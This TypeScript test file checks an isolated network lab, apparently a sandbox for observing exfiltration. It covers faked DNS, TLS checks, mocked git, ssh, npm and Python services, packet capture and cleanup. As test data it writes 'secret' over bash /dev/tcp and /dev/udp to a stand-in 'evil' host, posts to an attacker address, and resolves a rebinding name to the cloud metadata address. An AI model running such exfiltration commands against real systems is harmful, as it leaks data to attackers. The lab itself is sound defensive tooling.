/** The lab judges all else, so it is judged first: each instrument must see what really happens. */
import { spawn } from 'node:child_process'
import { once } from 'node:events'
import { existsSync, readdirSync, readFileSync, readlinkSync } from 'node:fs'
import { setTimeout as sleep } from 'node:timers/promises'
import t from 'tap'
import { evil } from './lab/addresses.js'
import { createLab } from './lab/lab.js'
import { builtPath } from './lab/paths.js'

const machine = () => readFileSync('/proc/self/mounts', 'utf8') + readdirSync('/run').join()

t.test('a lab', async (t) => {
  const before = machine()
  const lab = await createLab()
  t.teardown(() => lab.close())

  await t.test('answers names', async (t) => {
    const asked: [string, string, string][] = [
      ['api.openai.com', 'A', '198.51.100.10'],
      ['api.openai.com', 'AAAA', '2001:db8:1::10'],
      ['alias.example', 'A', 'second.alias.example.\nplain.example.\n198.51.100.30'],
      ['x.wild.example', 'A', '198.51.100.30'],
      ['rebind-metadata.example', 'A', '169.254.169.254'],
      ['nodata.example', 'A', ''],
    ]
    for (const [name, type, expected] of asked) {
      const { stdout } = await lab.run(['dig', '+short', name, type])
      t.equal(stdout.trim(), expected, `${name} ${type}`)
    }
    const { stdout } = await lab.run(['dig', 'nowhere.example', '@8.8.8.8', '+tcp'])
    t.match(stdout, /NXDOMAIN/)
    await lab.dns.set('mutable.example', 'A', ['198.51.100.31'], 7)
    const after = await lab.run(['dig', '+noall', '+answer', 'mutable.example'])
    t.match(after.stdout, /\s7\s+IN\s+A\s+198\.51\.100\.31/)
  })

  await t.test('verifies its TLS, and only by the right name', async (t) => {
    const good = await lab.run(['curl', '-sS', 'https://plain.example/a'], { user: 'alice' })
    t.match(good.stdout, /^host plain\.example address .* path \/a/)
    const address = ['--connect-to', 'evil.example:443:plain.example:443']
    t.equal((await lab.run(['curl', '-sS', ...address, 'https://evil.example/'])).code, 0)
    const wrong = ['--resolve', 'plain.example:443:203.0.113.66', '--insecure']
    t.equal((await lab.run(['curl', '-sS', ...wrong, 'https://plain.example/'])).code, 0)
    const literal = await lab.run(['curl', '-sS', 'https://203.0.113.66/'])
    t.not(literal.code, 0, 'no certificate for a bare address')
    const noCa = await lab.run(['curl', '-sS', '--cacert', '/dev/null', 'https://plain.example/'])
    t.not(noCa.code, 0, 'the CA is what makes it good')
  })

  await t.test('serves git, ssh, npm and python', async (t) => {
    const clone = await lab.run(['git', 'clone', '-q', 'https://github.com/acme/demo', '/tmp/demo'])
    t.equal(clone.code, 0, clone.stderr)
    t.match(lab.readFile('/tmp/demo/README'), /of the lab/)
    const known = ['-o', 'StrictHostKeyChecking=accept-new', '-o', 'BatchMode=yes']
    const ssh = await lab.run(['ssh', ...known, 'git@github.com', 'hello'])
    t.equal(ssh.stdout, 'lab ran: hello\n', ssh.stderr)
    const script =
      'import urllib.request as u;print(u.urlopen("https://slack.com/api/api.test").read())'
    t.match((await lab.run(['python3', '-c', script])).stdout, /"ok":true/)
    const view = await lab.run(['curl', '-sS', 'https://registry.npmjs.org/lab-package'])
    t.match(view.stdout, /lab-package-1\.0\.0\.tgz/)
  })

  await t.test('sees a stray datagram of any protocol, and records what evil gets', async (t) => {
    await lab.capture.clear()
    t.same(await lab.capture.packets(), [], 'the wire is silent by itself')
    lab.internet.evil.received = []
    for (const address of [evil.v4, evil.v6]) {
      await lab.run(['bash', '-c', `printf secret > /dev/udp/${address}/51820`])
      await lab.run(['bash', '-c', `printf secret > /dev/tcp/${address}/8080`])
      await lab.run(['ping', '-c', '1', '-W', '1', address])
    }
    const packets = await lab.capture.packets(
      (p) => p.src.startsWith('192.') || p.src.includes(':'),
    )
    for (const [dst, echo] of [
      [evil.v4, 'icmp'],
      [evil.v6, 'icmpv6'],
    ] as const) {
      const seen = (proto: string) => packets.filter((p) => p.dst === dst && p.proto === proto)
      t.match(seen('udp'), [{ dport: 51820, length: 6 }])
      t.ok(seen('tcp').some((p) => p.dport === 8080 && p.payload.toString() === 'secret'))
      t.ok(seen(echo).length >= 1, echo)
    }
    await lab.sync()
    const got = lab.internet.evil.received.filter((v) => v.data === 'secret')
    t.equal(got.length, 4, 'both protocols, both families')
    await lab.capture.clear()
    await lab.run(['curl', '-sS', '-m', '5', '-d', 'x=1', 'http://10.1.2.3/latest'])
    await lab.sync()
    const visit = { local: '10.1.2.3', request: { url: '/latest' }, data: 'x=1' }
    t.match(lab.internet.evil.received.at(-1), visit, 'an address of nobody is the attacker')
  })

  await t.test('runs programs as a person would', async (t) => {
    t.match(await lab.run(['sh', '-c', 'cat; exit 42'], { input: 'in' }), {
      code: 42,
      stdout: 'in',
    })
    t.match(await lab.run(['sh', '-c', 'kill -TERM $$']), { code: null, signal: 'SIGTERM' })
    t.match(await lab.run(['sleep', '60'], { timeout: 200 }), { signal: 'SIGKILL' })
    t.match(await lab.run(['sudo', '-n', 'id', '-u'], { user: 'alice' }), { stdout: '0\n' })
    t.match((await lab.run(['env'])).stdout.split('\n').sort().join(), /^,HOME=[^,]*,LANG=/)
    const shell = lab.spawn(['bash', '--norc', '-i'], { tty: true, user: 'alice' })
    shell.write('stty size\r')
    await shell.until(/24 80/)
    shell.resize(50, 132)
    shell.write('sleep 1000\r')
    await shell.until(/sleep 1000\r\n/)
    await sleep(100)
    shell.write('\x1a')
    await shell.until(/Stopped/)
    shell.write('stty size; kill -9 %1; sleep 0.1; exit 7\r')
    await shell.until(/50 132/)
    t.equal((await shell.ended).code, 7)
  })

  await t.test('finds leftovers of each kind', async (t) => {
    await lab.remember()
    t.same(await lab.leftovers(), {})
    await lab.run(['nft', 'add', 'table', 'inet', 'forgotten'])
    await lab.run(['ip', 'link', 'add', 'forgotten0', 'type', 'veth'])
    await lab.run(['touch', '/tmp/forgotten', '/etc/forgotten'])
    const stray = lab.spawn(['unshare', '--net', 'sleep', '1000'])
    while (lab.processes().length === 0) await sleep(10)
    await sleep(50)
    const found = await lab.leftovers()
    t.match(found.rules?.join(), /forgotten/)
    t.match(found.links?.join(), /forgotten0/)
    t.match(found.files, ['/etc/forgotten', '/tmp/forgotten'])
    t.match(found.processes?.join(), /sleep 1000/)
    t.match(found.namespaces?.join(), /net:/)
    stray.kill('SIGKILL')
    await stray.ended
  })

  await lab.close()
  t.notOk(existsSync(`/proc/${lab.sides.host}`), 'its processes are gone')
  t.equal(machine(), before, 'the machine is as it was')
  t.notOk(existsSync('/etc/forgotten'))
})

t.test('kill -9 of the test leaves nothing', async (t) => {
  const before = machine()
  const code = `
    const { createLab } = await import(${JSON.stringify(builtPath('lab.js'))})
    const lab = await createLab()
    lab.spawn(['sleep', '1000'])
    console.log(JSON.stringify(lab.sides))
    setInterval(() => {}, 1000)`
  const test = spawn(process.execPath, ['--input-type=module', '-e', code], {
    stdio: ['ignore', 'pipe', 'inherit'],
  })
  t.teardown(() => test.kill('SIGKILL'))
  const [output] = (await once(test.stdout, 'data')) as [Buffer]
  const sides = JSON.parse(output.toString()) as { internet: number; host: number }
  const namespace = readlinkSync(`/proc/${sides.host}/ns/net`)
  t.not(namespace, readlinkSync('/proc/self/ns/net'))
  test.kill('SIGKILL')
  const inside = () =>
    readdirSync('/proc').filter((pid) => {
      try {
        return /^\d+$/.test(pid) && readlinkSync(`/proc/${pid}/ns/net`) === namespace
      } catch {
        return false
      }
    })
  const alive = () => [sides.internet, sides.host].filter((pid) => existsSync(`/proc/${pid}`))
  for (let i = 0; i < 500 && (alive().length > 0 || inside().length > 0); i++) await sleep(10)
  t.same([alive(), inside()], [[], []])
  t.equal(machine(), before)
})
